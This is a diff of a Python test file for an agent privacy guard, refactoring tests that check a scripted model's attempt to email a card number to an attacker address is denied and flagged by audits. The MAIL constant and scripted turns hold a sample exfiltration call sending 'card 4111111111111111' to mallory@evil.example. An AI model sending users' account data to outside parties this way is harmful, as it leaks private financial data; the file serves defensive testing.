@@ -13,7 +13,9 @@ from decimal import Decimal
 from typing import Any
 
 import pytest
-from langchain_core.messages import AIMessage, HumanMessage, ToolMessage
+from _audit_trace import audit_journal, found, journaled_agent, live_denials
+from _turns import by_turn
+from langchain_core.messages import HumanMessage, ToolMessage
 from langgraph.checkpoint.memory import InMemorySaver
 from test_privacy_integrity import mail_effect
 
@@ -24,15 +26,15 @@ from guards import (
     audit_trace,
     privacy_sink,
     privacy_source,
-    trace_from_journal,
     trace_from_messages,
 )
-from vfa import Agent, EffectJournal
-from vfa.testing import ScriptedModel
+from vfa import EffectJournal
 
 USER = "me@home.example"
 ATTACKER = "mallory@evil.example"
 POLICY = PrivacyPolicy.of(USER)
+READ = ("get_account", {}, "c1")
+MAIL = ("send_email", {"to": [ATTACKER], "body": "card 4111111111111111"}, "c2")
 
 
 def _tools(sent: list) -> list:
@@ -46,31 +48,21 @@ def _tools(sent: list) -> list:
 
 
 def test_audit_labels_a_value_that_is_no_json_value_as_the_live_flow_did() -> None:
-    def rule(messages: list[Any]) -> Any:
-        turn = sum(isinstance(m, AIMessage) for m in messages)
-        if turn == 0:
-            return AIMessage("", tool_calls=[{"name": "get_account", "args": {}, "id": "c1"}])
-        if turn == 1:  # the model read the card number in clear (the field's repr) and sends it
-            return AIMessage("", tool_calls=[{"name": "send_email", "id": "c2",
-                                              "args": {"to": [ATTACKER], "body": "card 4111111111111111"}}])
-        return "done"
-
+    # the model read the card number in clear (the field's repr) and sends it
+    rule = by_turn(READ, MAIL)
     sent: list = []
     journal = EffectJournal()
-    flow = PrivacyFlow(POLICY, secret=b"s", journal=journal)
-    app = Agent(ScriptedModel(rule=rule), _tools(sent), guards=[flow.guard()], flow=flow, journal=journal).compile()
+    app = journaled_agent(rule, _tools(sent), PrivacyFlow(POLICY, secret=b"s", journal=journal), journal)
     out = app.invoke({"messages": [HumanMessage("Check my account.")]}, {"configurable": {"thread_id": "t"}})
     last = [m for m in out["messages"] if isinstance(m, ToolMessage)][-1]
     assert last.artifact["vfa"]["outcome"] == "denied" and sent == []  # live: denied
-    live = sorted((e.call_id, v["rule"], v["arg"]) for e in journal.entries("t") if e.kind == "denied"
-                  for v in e.data["evidence"]["_violations"])
+    live = live_denials(journal)
     assert live == [("c2", "confidentiality", "body")]
-    by_journal = audit_trace(trace_from_journal(journal, "t", messages=out["messages"]), _tools([]),
-                             flow=PrivacyFlow(POLICY, secret=b"s"), thread_id="t")
+    by_journal = audit_journal(journal, out["messages"], _tools([]), PrivacyFlow(POLICY, secret=b"s"))
     by_messages = audit_trace(trace_from_messages(out["messages"]), _tools([]),
                               flow=PrivacyFlow(POLICY, secret=b"s"), thread_id="t")
-    assert sorted((v.call_id, v.rule, v.arg) for v in by_journal) == live, "journal audit: clean"
-    assert sorted((v.call_id, v.rule, v.arg) for v in by_messages) == live, "messages audit: clean"
+    assert found(by_journal) == live, "journal audit: clean"
+    assert found(by_messages) == live, "messages audit: clean"
 
 
 def test_a_trace_whose_reprs_are_not_strings_to_strings_is_refused() -> None:
@@ -80,20 +72,13 @@ def test_a_trace_whose_reprs_are_not_strings_to_strings_is_refused() -> None:
         audit_trace(trace, _tools([]), POLICY)
 
 
-def _restart_rule(messages: list[Any]) -> Any:
-    turn = sum(isinstance(m, AIMessage) for m in messages)
-    if turn == 0:
-        return AIMessage("", tool_calls=[{"name": "get_account", "args": {}, "id": "c1"}])
-    if turn == 2:  # after the restart: the card number the model read in clear, to an outsider
-        return AIMessage("", tool_calls=[{"name": "send_email", "id": "c2",
-                                          "args": {"to": [ATTACKER], "body": "card 4111111111111111"}}])
-    return "ok"
+# after the restart: the card number the model read in clear, to an outsider
+_restart_rule = by_turn(READ, None, MAIL, then="ok")
 
 
 def _app(sent: list, journal: EffectJournal, saver: InMemorySaver) -> Any:
-    flow = PrivacyFlow(POLICY, secret=b"s", journal=journal)
-    return Agent(ScriptedModel(rule=_restart_rule), _tools(sent), guards=[flow.guard()], flow=flow,
-                 journal=journal).compile(checkpointer=saver)
+    return journaled_agent(_restart_rule, _tools(sent), PrivacyFlow(POLICY, secret=b"s", journal=journal), journal,
+                           checkpointer=saver)
 
 
 def test_a_rebuilt_thread_keeps_a_non_json_field_private() -> None:
